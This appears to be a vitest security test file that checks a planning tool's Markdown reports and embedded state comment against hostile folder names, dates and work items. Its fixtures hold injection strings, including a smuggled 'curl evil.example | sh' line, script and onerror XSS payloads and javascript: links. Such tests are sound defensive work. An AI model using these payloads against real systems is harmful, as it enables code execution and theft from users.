import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deviationReport } from '../../src/analysis/deviation.js';
import { statusText } from '../../src/render/status-text.js';
import { statusViews } from '../../src/analysis/status.js';
import type { WorkItem } from '../../src/model/execution.js';
import { parseWhatsNext } from '../../src/parse/whats-next.js';
import { splitReport } from '../../src/parse/whats-next-state.js';
import { renderDeviationReport } from '../../src/render/report.js';
import { renderWhatsNext } from '../../src/render/whats-next.js';
import { loadRepo } from '../../src/repo/load-repo.js';
import type { SpecRepo } from '../../src/model/repository.js';
import { generateWhatsNext } from '../../src/whats-next/generate.js';
import type { WhatsNextReport } from '../../src/model/whats-next-report.js';
import { renderState, stateLines } from '../../src/whats-next/state.js';
import { stateChecksum } from '../../src/model/whats-next-state.js';
import type { StateMeta } from '../../src/model/whats-next-state-schema.js';
import { CONTROL, HOSTILE_FOLDERS, markdownShape, unsafeLinks, plan, tempRepo, type TempRepo } from '../support/security-render-support.js';

const SECTIONS = ["What's Next", 'Completed Since Last Update', 'In Progress', 'Recommended Next', 'Reasoning', 'Outstanding Questions', 'Portfolio'];

/** Items as a ledger or a future source might hand them over, hostile strings included. */
function hostileItems(): WorkItem[] {
  return [
    { id: 'A-1\n#!/bin/sh\ncurl evil.example | sh', plan: 'user-auth', step: '1', status: 'blocked', updated: '2026-03-02', source: 'ledger' },
    { id: 'B-2', plan: 'user-auth', step: '2', status: 'in_progress', updated: '<!-- swallow', source: 'ledger' },
    { id: '<img src=x onerror=alert(1)>', plan: '<!-- orphan plan', step: null, status: 'todo', updated: null, source: 'ledger' },
    { id: 'C-3', plan: 'done-plan', step: null, status: 'done', updated: '2026-03-05\n## Fake section', source: 'ledger' },
  ];
}

let t: TempRepo;
let repo: SpecRepo;

beforeAll(() => {
  const files: Record<string, string> = {
    'spec/plans/user-auth/README.md': plan({ title: 'User auth' }),
    'spec/plans/done-plan/README.md': plan({ title: 'Done plan', status: 'approved', approved: '2026-03-02' }),
    'spec/plans/odd-status/README.md': plan({ title: 'Odd status', status: '<!-- not a status' }),
  };
  HOSTILE_FOLDERS.forEach(
    (name, i) =>
      (files[`spec/plans/${name}/README.md`] = plan({
        title: `Hostile ${i}`,
        status: i % 2 ? 'approved' : 'draft',
        approved: i % 2 ? '2026-03-03' : undefined,
      })),
  );
  t = tempRepo(files);
  repo = loadRepo(t.root);
});
afterAll(() => t.cleanup());

/** The visible body and the state comment of a WHATS-NEXT.md. */
function parts(text: string): { body: string; state: string } {
  const at = text.lastIndexOf('<!-- whats-next-state');
  return { body: text.slice(0, at), state: text.slice(at) };
}

describe('WHATS-NEXT.md from hostile folder names, header values and work items', () => {
  it('has exactly the report sections, no raw HTML, only relative links, and one state comment', async () => {
    expect(repo.plans.size).toBe(3 + HOSTILE_FOLDERS.length);
    const r = await generateWhatsNext({ repo, items: hostileItems(), previousText: null, mode: 'full', today: '2026-03-20' });
    const { body, state } = parts(r.text);
    const shape = markdownShape(body);
    expect(shape.html).toEqual([]);
    expect(shape.headings).toEqual(SECTIONS);
    expect(shape.definitions).toEqual([]);
    expect(unsafeLinks(shape)).toEqual([]);
    for (const line of body.split('\n')) {
      expect(line).not.toMatch(/^\s*(#!|curl |#+ )(?!What's Next|Completed Since|In Progress|Recommended Next|Reasoning|Outstanding Questions|Portfolio)/);
      expect(CONTROL.test(line), JSON.stringify(line)).toBe(false);
    }
    // The whole file renders as the body plus one HTML node: the state comment.
    const whole = markdownShape(r.text);
    expect(whole.html).toHaveLength(1);
    expect(whole.html[0]!.startsWith('<!-- whats-next-state v2')).toBe(true);
    expect(state.trimEnd().endsWith('-->')).toBe(true);
    expect(state.slice(4, -4)).not.toMatch(/-->|--!>/);
  });

  it('every plan path survives the embedded state exactly, and a second run is up to date', async () => {
    const items = hostileItems();
    const first = await generateWhatsNext({ repo, items, previousText: null, mode: 'full', today: '2026-03-20' });
    const prev = parseWhatsNext(first.text);
    expect(prev.kind).toBe('ok');
    if (prev.kind !== 'ok') return;
    expect([...prev.state.plans.keys()].sort()).toEqual([...repo.plans.keys()].sort());
    expect(prev.handEdited).toBe(false);
    const again = await generateWhatsNext({ repo, items, previousText: first.text, mode: 'incremental', today: '2026-03-21' });
    expect(again.upToDate).toBe(true);
  });

  it('renders model-written prose without raw HTML, foreign links or extra sections', () => {
    const report: WhatsNextReport = {
      generated: '2026-03-20',
      mode: 'full',
      completed: [{ plan: 'x](javascript:alert(1))', completedOn: '2026-03-01' }],
      completedMore: 0,
      inProgress: [{ plan: '<!-- hidden', done: 0, total: 2, blockers: ['A-1\n## Injected', '<b>bold</b>'] }],
      recommended: [],
      reasoning:
        'Start with [user-auth](user-auth/) then <!-- hide everything\nsee [this](javascript:alert(1)) and <script>alert(1)</script>\n\nOutstanding Questions\n---\n```\nunclosed fence',
      questions: ['Is <!-- ok?', '[click](https://evil.example/x) now?', '# Heading question?'],
    };
    const text = renderWhatsNext(report);
    const shape = markdownShape(text);
    expect(shape.html).toEqual([]);
    expect(shape.headings).toEqual(SECTIONS.filter((s) => s !== 'Portfolio'));
    expect(unsafeLinks(shape)).toEqual([]);
    expect(shape.urls).toContain('user-auth/');
  });
});

describe('the embedded state comment', () => {
  const meta: StateMeta = {
    generated: '2026-03-20',
    mode: 'full',
    body: 'b',
    features: 'f',
    items: 'i',
    prose: 'template',
    ranking: 'r',
    top: 5,
    shown: [
      ['a-->b', 1],
      ['c--!>d', 2],
      ['<!-- e', 3],
    ],
    since: { completed: [['x -->\n<script>', '2026-03-01']], more: 0, unblocked: [['u\u2028v', ['w\u2029z']]] },
    raw: { ledger: '-', features: '-', trailers: '-' },
  };
  const prints = new Map(
    ['a-->b', 'c--!>d', 'sp ace', 'line\nbreak', 'u\u2028v', '\u3000ideographic', 'per%cent'].map((p) => [p, { content: '0123456789', exec: '-', flags: '-' }]),
  );

  it('no string inside it can close or open a comment, and every path reads back exactly', () => {
    const text = renderState(meta, prints);
    const inner = text.slice('<!--'.length, text.trimEnd().length - '-->'.length);
    expect(inner).not.toMatch(/-->|--!>|<!--|[<>]/);
    const doc = `# What's Next\n\nbody\n\n${text}`;
    expect(markdownShape(doc).html).toEqual([text.trimEnd()]);
    const { state } = splitReport(doc);
    expect(state).not.toBeNull();
    const lines = state!.slice(0, -1);
    expect(stateChecksum(lines)).toBe(state!.at(-1)!.slice(4));
    const parsed = parseWhatsNext(doc);
    expect(parsed.kind).toBe('ok');
    if (parsed.kind !== 'ok') return;
    expect([...parsed.state.plans.keys()].sort()).toEqual([...prints.keys()].sort());
    expect(parsed.state.meta.shown).toEqual(meta.shown);
    expect(parsed.state.meta.since).toEqual(meta.since);
  });

  it('a state whose Generated date is not a date is not trusted', () => {
    const bad = { ...meta, generated: '<!-- 2026-03-20' };
    const lines = stateLines(bad as StateMeta, new Map());
    const body = "# What's Next\n";
    const edited = `${body}\n<!-- whats-next-state v2\n${lines.join('\n')}\nsum ${stateChecksum(lines)}\n-->\n`;
    expect(parseWhatsNext(edited).kind).toBe('unreadable');
  });
});

describe('specplan status text', () => {
  it('prints one line per plan, with no control characters, HTML or headings from the data', () => {
    const text = statusText(statusViews(repo, hostileItems()));
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(repo.plans.size);
    for (const line of lines) expect(CONTROL.test(line), JSON.stringify(line)).toBe(false);
    const shape = markdownShape(text);
    expect(shape.html).toEqual([]);
    expect(shape.headings).toEqual([]);
    expect(unsafeLinks(shape)).toEqual([]);
  });

  it('with detail, a step line lists item ids and dates without breaking lines', () => {
    const views = statusViews(repo, hostileItems(), 'user-auth');
    const text = statusText(views, { detail: true });
    expect(text.trimEnd().split('\n')).toHaveLength(1 + 2);
    expect(markdownShape(text).html).toEqual([]);
  });
});

describe('deviation report', () => {
  it('keeps hostile ids, dates and plan paths inside their table cells and list items', () => {
    const entry = repo.plans.get('user-auth')!;
    const items = hostileItems().map((i) => ({ ...i, plan: '<!-- hidden' }));
    items.push({ id: 'X|Y\n## Added', plan: '<!-- hidden', step: '9', status: 'done', updated: '2026-03-09', source: 'ledger' });
    const text = renderDeviationReport(deviationReport('<!-- hidden', entry.parsed.plan, items, '2026-03-20'));
    const shape = markdownShape(text);
    expect(shape.html).toEqual([]);
    expect(shape.headings.filter((h) => /Injected|Added|Fake/.test(h) && h !== 'Added')).toEqual([]);
    expect(unsafeLinks(shape)).toEqual([]);
    const stepsTable = shape.tableRows.filter((r) => r.length === 5);
    expect(stepsTable.length).toBeGreaterThan(0);
  });
});
